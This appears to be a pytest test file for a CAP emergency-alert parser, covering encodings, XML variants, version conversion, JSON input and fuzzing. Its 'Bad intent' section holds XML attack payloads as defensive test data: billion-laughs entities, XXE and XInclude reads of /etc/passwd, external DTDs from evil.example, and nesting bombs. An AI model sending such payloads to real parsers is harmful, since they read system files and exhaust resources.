"""Bytes as they come: encodings, what XML allows inside, and what senders with bad intent send."""

from __future__ import annotations

import gc
import json
import resource
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from itertools import pairwise
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree
from test_cap_rules import ALERT, BASE, INFO, RING, SCOPE, message

from schemas.cap import (
    NAMESPACE_10,
    NAMESPACE_11,
    NAMESPACE_12,
    Alert,
    Profile,
    check_alert,
    open_container,
    read_alert,
    read_alert_json,
    write_alert_json,
)
from schemas.cap.markup import MAX_BREADTH, MAX_DEPTH
from schemas.cap.names import MARKUP, is_plain
from schemas.cap.structure import MAX_FINDINGS
from schemas.errors import Rejected

if TYPE_CHECKING:
    from collections.abc import Callable

BODY = BASE.split("?>", 1)[1]
LANGUAGES = {
    "az": "Abşeron sahilində fırtına dalğası gözlənilir",
    "fa": "هشدار: مدِ طوفانی در ساحل گیلان — «فوری»",
    "kk": "Каспий жағалауында су көтерілуі күтіледі, әрі қауіпті",
    "ru": "Ожидается штормовой нагон на побережье",
    "tk": "Hazaryň kenarynda güýçli tolkun garaşylýar",
    "en": "Storm surge expected \u202e\U0001f30a on the coast",
}


def declared(encoding: str, body: str = BODY) -> str:
    return f'<?xml version="1.0" encoding="{encoding}"?>{body}'


def headline(data: bytes) -> str | None:
    return read_alert(data).alert.info[0].headline


def code_of(data: bytes, read: Callable[[bytes], object] = read_alert) -> str:
    with pytest.raises(Rejected) as refusal:
        read(data)
    assert refusal.value.remedy
    assert refusal.value.findings
    return refusal.value.code


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize(
    ("encoding", "codec"),
    [
        ("UTF-8", "utf-8"),
        ("utf-8", "utf-8-sig"),
        ("UTF-16", "utf-16"),
        ("utf-16", "utf-16-le"),
        ("UTF-16BE", "utf-16-be"),
        ("windows-1251", "windows-1251"),
        ("KOI8-R", "koi8-r"),
        ("ISO-8859-1", "iso-8859-1"),
        ("us-ascii", "ascii"),
        ("GB18030", "gb18030"),
    ],
)
def test_every_language_comes_through_every_encoding(
    language: str, encoding: str, codec: str
) -> None:
    text = declared(encoding).replace("Storm surge on the Absheron coast", LANGUAGES[language])
    data = text.replace(">en<", f">{language}<").encode(codec, "xmlcharrefreplace")

    alert = read_alert(data).alert

    assert alert.info[0].headline == LANGUAGES[language]
    assert alert.info[0].language == language


@pytest.mark.parametrize(
    "data",
    [
        declared("windows-1251")
        .encode("utf-8")
        .replace(b"Storm surge on", "\u0448\u0098".encode()),
        declared("UTF-8").replace("Storm", "Sturm\xfc").encode("iso-8859-1"),
        declared("us-ascii").replace("Storm", "Штурм").encode(),
        declared("UTF-8").encode("utf-16"),
        declared("UTF-32").encode("utf-32"),
        declared("UTF-16").encode(),
        declared("UTF-7").encode(),
        declared("cp037").encode(),
        declared("rot13").encode(),
        BODY.encode("utf-16")[:-1],
        BODY.strip().encode("utf-16-le")[:100] + b"\x00\xd8" + BODY.encode("utf-16-le")[100:],
        b"",
        b" ",
        b"\xff\xfe",
        b"<",
        b"<alert",
        BASE.encode()[:-9],
        BASE.encode() * 2,
        b"{}",
    ],
)
def test_what_is_not_in_its_encoding_or_not_xml_is_refused(data: bytes) -> None:
    assert code_of(data) == "not-xml"


@pytest.mark.parametrize(
    "data",
    [
        BASE.replace("\n", "\r\n"),
        BASE.replace("\n", "\r"),
        "\n \n" + BODY,
        BODY.strip(),
        BASE.replace("</", "</cap:").replace("<", "<cap:").replace("<cap:/cap:", "</cap:").replace("<cap:?", "<?").replace("xmlns=", "xmlns:cap="),  # noqa: E501 - one message in one line
        BASE.replace("</", "</ж:").replace("<", "<ж:").replace("<ж:/ж:", "</ж:").replace("<ж:?", "<?").replace("xmlns=", "xmlns:ж="),  # noqa: E501 - one message in one line
        BASE.replace("<info>", "<!-- a comment --><?work in progress?>\n<info>"),
        BASE.replace("Storm surge on", "Storm<!-- > --> <?x <y> ?>surge on"),
        BASE.replace("Storm surge on", "<![CDATA[Storm]]> surge &#111;n"),
        BASE.replace("<alert ", "<alert xmlns:unused='urn:unused'\n\t"),
        BASE.replace("<alert ", "<?xml-stylesheet href='a.xsl'?><!-- x --><alert ").replace("</alert>", "</alert><!-- y -->"),  # noqa: E501 - one message in one line
        BASE.replace("<status>", '<status xmlns="urn:oasis:names:tc:emergency:cap:1.2">'),
        BASE.replace("<alert ", f'<alert xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="{NAMESPACE_12} file:///etc/passwd" '),  # noqa: E501 - one message in one line
    ],
)  # fmt: skip
def test_how_xml_is_written_does_not_matter(data: str) -> None:
    assert read_alert(data.encode()).alert == read_alert(BASE.encode()).alert


def test_a_signature_may_stand_at_the_end_and_is_left_alone() -> None:
    signature = (
        '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo a="b"/>x</Signature>'
    )
    data = BASE.replace("</alert>", f"{signature}</alert>").encode()

    assert read_alert(data).alert == read_alert(BASE.encode()).alert


def test_a_carriage_return_survives_where_it_is_meant() -> None:
    data = BASE.replace("Storm surge on", "Storm&#13;\nsurge on").encode()

    assert headline(data) == "Storm\r\nsurge on the Absheron coast"


def old(text: str = BASE) -> str:
    return text.replace(NAMESPACE_12, NAMESPACE_11)


def test_cap_1_1_is_brought_to_the_model_of_1_2() -> None:
    assert read_alert(old().encode()) == read_alert(BASE.encode())


def test_dates_of_cap_1_1_may_be_in_utc_and_have_fractions() -> None:
    text = old().replace("<sent>2026-11-23T14:00:00+04:00<", "<sent>2026-11-23T10:00:00.25Z<")

    assert read_alert(text.encode()).alert.sent == read_alert(BASE.encode()).alert.sent


def test_references_of_cap_1_1_may_be_in_utc() -> None:
    text = (
        old()
        .replace(ALERT, "<msgType>Cancel</msgType>")
        .replace(SCOPE, f"{SCOPE}<references>a@b,1,2026-11-23T10:00:00Z</references>")
    )

    (reference,) = read_alert(text.encode()).alert.references

    assert reference.sent == read_alert(BASE.encode()).alert.sent


@pytest.mark.parametrize(
    ("there", "rule", "path"),
    [
        (("<sent>2026-11-23T14:00:00+04:00<", "<sent>2026-11-23T14:00:00<"), "R04", "alert/sent"),
        (("<sent>2026", "<sent>12026"), "R04", "alert/sent"),
        (("<altitude>-92<", "<altitude>low<"), "R43", "alert/info[1]/area[1]/altitude"),
    ],
)
def test_what_cap_1_1_allows_and_1_2_cannot_say_is_refused(
    there: tuple[str, str], rule: str, path: str
) -> None:
    findings = check_alert(old().replace(*there).encode())

    assert [(f.rule, f.path) for f in findings if f.severity == "error"] == [(rule, path)]


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (BASE.replace(NAMESPACE_12, NAMESPACE_10), "cap-1.0"),
        (BASE.replace(NAMESPACE_12, "urn:oasis:names:tc:emergency:alerts:1.2"), "wrong-namespace"),
        (BASE.replace(f' xmlns="{NAMESPACE_12}"', ""), "wrong-namespace"),
        (BASE.replace("alert", "alerts"), "wrong-namespace"),
        (f'<feed xmlns="http://www.w3.org/2005/Atom">{BODY}</feed>', "wrong-namespace"),
    ],
)
def test_a_document_that_is_not_a_cap_alert_is_told_so(data: str, code: str) -> None:
    assert code_of(data.encode()) == code


# --- Bad intent ---

LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
XINCLUDE = '<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'
DSIG = '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#">%s</Signature></alert>'
CHARREF = XINCLUDE.replace("XInclude", "XIncl&#117;de")


@pytest.mark.parametrize(
    "data",
    [
        f'<!DOCTYPE l [<!ENTITY l0 "lol">{LAUGHS}]><l>&l9;</l>',
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        '<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>',
        '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]><a/>',
        BASE.replace("<alert ", "<!-- -->\n<!DOCTYPE alert><alert "),
        BASE.replace("</alert>", f"{DSIG % XINCLUDE}"),
        BASE.replace("</alert>", f"{DSIG % CHARREF}"),
        BASE.replace("<info>", f"{XINCLUDE}<info>"),
    ],
)
@pytest.mark.parametrize("codec", ["utf-8", "utf-16"])
def test_entities_and_inclusions_are_refused_before_they_act(data: str, codec: str) -> None:
    assert code_of(data.replace("UTF-8", codec).encode(codec)) == "xml-forbidden"


def test_a_doctype_inside_a_text_is_a_text() -> None:
    text = "<![CDATA[<!DOCTYPE a [<!ENTITY b 'c'>]>]]>"

    assert headline(message(("Storm surge on", text))) == "<!DOCTYPE a [<!ENTITY b 'c'>]> the Absheron coast"  # fmt: skip  # noqa: E501


def test_an_undeclared_entity_is_not_xml() -> None:
    assert code_of(message(("Storm surge", "&surge;"))) == "not-xml"


@pytest.mark.parametrize(
    "data",
    [
        b"<a>" * (MAX_DEPTH + 1) + b"</a>" * (MAX_DEPTH + 1),
        b"<a>" * 100_000,
        BASE.replace("</alert>", DSIG % ("<a>" * MAX_DEPTH + "</a>" * MAX_DEPTH)).encode(),
        BASE.replace("<info>", "<info>" * 70).replace("</info>", "</info>" * 70).encode(),
    ],
)
def test_deep_nesting_is_refused(data: bytes) -> None:
    assert code_of(data) in {"too-deep", "wrong-namespace"}
    assert code_of(data) == "too-deep" or b"alert" not in data


def test_a_message_over_the_limit_is_refused_and_at_the_limit_read() -> None:
    data = BASE.encode()

    assert read_alert(data, max_bytes=len(data))
    assert code_of(data, lambda d: read_alert(d, max_bytes=len(d) - 1)) == "too-large"
    assert code_of(data, lambda d: read_alert_json(d, max_bytes=10)) == "too-large"


def test_too_many_siblings_are_refused() -> None:
    many = "<responseType>X</responseType>" * (MAX_BREADTH + 1)

    assert code_of(message(("<responseType>", many + "<responseType>"))) == "too-large"
    assert code_of(b'{"code": [%s]}' % b",".join([b'""'] * 5001), read_alert_json) == "too-large"


def test_a_text_beyond_the_parsers_limit_is_refused() -> None:
    data = message(("Storm surge", "x" * 10_100_000))

    assert code_of(data, lambda d: read_alert(d, max_bytes=1 << 24)) == "too-large"


def test_a_thousand_faults_are_told_by_a_hundred_findings_errors_first() -> None:
    circles = "<circle>0,0 0</circle>" * 1000
    faults = message(("</geocode>", "</geocode>"), ("<circle>", circles + "<circle>"))
    broken = faults.replace(b"<altitude>-92<", b"<altitude>92<")
    wrong = message(("<responseType>", "<responseType>X</responseType>" * 1000 + "<responseType>"))

    assert len(read_alert(faults).warnings) == MAX_FINDINGS
    assert len(check_alert(broken)) == MAX_FINDINGS
    assert check_alert(broken)[-1].rule == "R43"
    assert code_of(broken) == "rule-broken"
    assert len(check_alert(wrong)) == MAX_FINDINGS


def test_a_zigzag_is_not_searched_for_crossings_but_a_long_coast_is() -> None:
    points = [f"{30 + 0.0004 * i},{40 + 0.0004 * i}" for i in range(9000)]
    coast = " ".join([*points, "30,50", points[0]])
    zigzag = " ".join([f"{i % 2 * 40},{i % 2 * 40 + 0.004 * i}" for i in range(9000)] + ["0,0"])

    assert read_alert(message((RING, coast))).warnings == ()
    (finding,) = read_alert(message((RING, zigzag))).warnings
    assert finding.rule == "R38"
    assert "too many points" in finding.message


STATM = Path("/proc/self/statm")


def memory_mb() -> float:
    return int(STATM.read_text().split()[1]) * resource.getpagesize() / (1 << 20)


@pytest.mark.skipif(not STATM.exists(), reason="only Linux tells the memory in use")
def test_ever_new_names_leave_no_trace_in_memory() -> None:
    """libxml2 keeps the names it met for ever; 60 such messages once took 50 MB for good."""

    def of_new_names(n: int) -> bytes:
        return b"<a>%s</a>" % b"".join(b"<n%dx%d%s/>" % (n, i, b"y" * 900) for i in range(900))

    for n in range(5):
        assert code_of(of_new_names(n)) == "wrong-namespace"
    gc.collect()
    before = memory_mb()

    for n in range(5, 65):
        assert code_of(of_new_names(n)) == "wrong-namespace"

    gc.collect()
    assert memory_mb() - before < 20


@pytest.mark.parametrize(
    "data",
    [
        BASE.replace("<status>", '<status foreign="1">'),
        BASE.replace("<status>", "<status xmlns:foreign='urn:x'>"),
        BASE.replace("<status>", "<foreign/><status>"),
        BASE.replace("<status>", "<?foreign x?><status>"),
        BASE.replace("<status>", "<!-- <status> --><foreign>\n<status>"),
        BASE.replace("<status>", "<a x='<status>'/><status>"),
        BASE.replace("<status>", '<![CDATA[ "]]><a b=\'"\' foreign="\'"/><status>'),
        BASE.replace("</status>", "</foreign>"),
        BASE + "<foreign",
    ],
)
def test_a_name_that_is_not_of_cap_does_not_escape_notice(data: str) -> None:
    assert not is_plain(data.encode())


@pytest.mark.parametrize(
    "data",
    [
        BASE,
        BODY,
        old(),
        BASE.replace("<status>", "<!-- <foreign/> --><status >"),
        BASE.replace("Storm surge", "<![CDATA[<foreign/>]]>"),
        BASE.replace("</alert>", DSIG % "<SignedInfo/><SignatureValue>x</SignatureValue>"),
    ],
)
def test_a_document_of_known_names_is_read_where_it_is(data: str) -> None:
    assert is_plain(data.encode())


@given(st.lists(st.sampled_from(["<a>", "</a>", "<b c='>'/>", '<d e="\'>"/>', "<!--<x>-->", '<![CDATA[<y>"]]>', "<?p <q>?>", " > ' ", "&lt;"]), max_size=12))  # fmt: skip  # noqa: E501
@settings(max_examples=100, deadline=None)
def test_markup_is_found_exactly_where_the_parser_finds_it(pieces: list[str]) -> None:
    data = f"<r>{''.join(pieces)}</r>".encode()
    try:
        root = etree.fromstring(data)
    except etree.XMLSyntaxError:
        return

    seen = [piece for piece in MARKUP.findall(data) if piece[1:2].isalpha()]

    assert len(seen) == sum(isinstance(element.tag, str) for element in root.iter())


# --- Whatever bytes come ---


def judged(data: bytes) -> None:
    """Read in every way; anything but a reading or a refusal is a fault."""
    for profile in Profile:
        with suppress(Rejected):
            read_alert(data, profile=profile)
        assert isinstance(check_alert(data, profile=profile), tuple)
    for read in (read_alert_json, open_container):
        with suppress(Rejected):
            read(data)


@given(st.binary(max_size=300))
@settings(max_examples=150, deadline=None)
def test_any_bytes_are_read_or_refused(data: bytes) -> None:
    judged(data)


@given(st.data())
@settings(max_examples=150, deadline=None)
def test_a_message_with_damaged_bytes_is_read_or_refused(data: st.DataObject) -> None:
    base = data.draw(st.sampled_from([BASE.encode(), BODY.encode("utf-16"), old().encode()]))
    cuts = sorted(data.draw(st.lists(st.integers(0, len(base)), min_size=2, max_size=4)))
    junk = st.one_of(st.binary(max_size=4), st.sampled_from([b"<", b"&", b"\0", b"]]>", b"<!--"]))

    damaged = base[: cuts[0]] + b"".join(data.draw(junk) + base[a:b] for a, b in pairwise(cuts))

    judged(damaged)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=5),
    lambda inner: (
        st.lists(inner, max_size=3)
        | st.dictionaries(st.sampled_from(["info", "area", "sent", "x", "size"]), inner, max_size=4)
    ),
    max_leaves=12,
)


@given(JSON, st.data())
@settings(max_examples=150, deadline=None)
def test_any_json_is_read_or_refused(value: object, data: st.DataObject) -> None:
    good = json.loads(write_alert_json(read_alert(BASE.encode()).alert))
    part = data.draw(st.sampled_from([good, good["info"][0], good["info"][0]["area"][0]]))
    part[data.draw(st.sampled_from([*part, "x"]))] = value

    judged(json.dumps(good).encode())
    judged(json.dumps(value).encode())


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "not-json"),
        (b"{", "not-json"),
        (b"\xff", "not-json"),
        (b'{"code": [NaN]}', "not-json"),
        (b'{"sender": "a", "sender": "b"}', "not-json"),
        (b"[" * 100_000, "too-deep"),
        (b"[]", "structure-invalid"),
        (b'"alert"', "structure-invalid"),
        (b"{}", "structure-invalid"),
        (b'{"Sender": "a"}', "structure-invalid"),
        (b'{"code": "a"}', "structure-invalid"),
        (b'{"sender": 1}', "structure-invalid"),
        (b'{"sender": true}', "structure-invalid"),
        (b'{"info": [1]}', "structure-invalid"),
        (b'{"sender": "\\ud800"}', "structure-invalid"),
        (b'{"sender": "\\u0000"}', "structure-invalid"),
    ],
)
def test_json_that_is_no_alert_is_told_so(data: bytes, code: str) -> None:
    assert code_of(data, read_alert_json) == code


def test_json_takes_numbers_nulls_and_a_byte_order_mark() -> None:
    alert = read_alert(BASE.encode()).alert
    value = json.loads(write_alert_json(alert))
    value["note"] = None
    value["info"][0]["resource"][0]["size"] = 5
    value["info"][0]["area"][0] |= {"altitude": -92, "ceiling": 0.0}

    reading = read_alert_json(b"\xef\xbb\xbf" + json.dumps(value).encode())

    assert reading.alert == alert
    assert reading.warnings == ()


def test_json_findings_have_paths_and_no_lines() -> None:
    alert = read_alert(BASE.encode()).alert
    value = json.loads(write_alert_json(alert))
    value["info"][0]["urgency"] = "Soon"

    with pytest.raises(Rejected) as refusal:
        read_alert_json(json.dumps(value).encode())

    assert [(f.path, f.line) for f in refusal.value.findings] == [("alert/info[1]/urgency", None)]


def test_many_threads_read_at_once() -> None:
    good, wrong = BASE.encode(), BASE.replace(">Met<", ">Wet<").encode()
    foreign = BASE.replace("<status>", "<foreign/><status>").encode()
    expected = {data: check_alert(data) for data in (good, wrong, foreign)}

    with ThreadPoolExecutor(8) as pool:
        found = list(pool.map(check_alert, [good, wrong, foreign] * 60))

    assert found == [expected[good], expected[wrong], expected[foreign]] * 60


def test_the_model_of_a_large_message_is_whole() -> None:
    data = message((INFO, INFO * 300))

    alert = read_alert(data).alert

    assert len(alert.info) == 300
    assert Alert.model_validate(alert.model_dump()) == alert
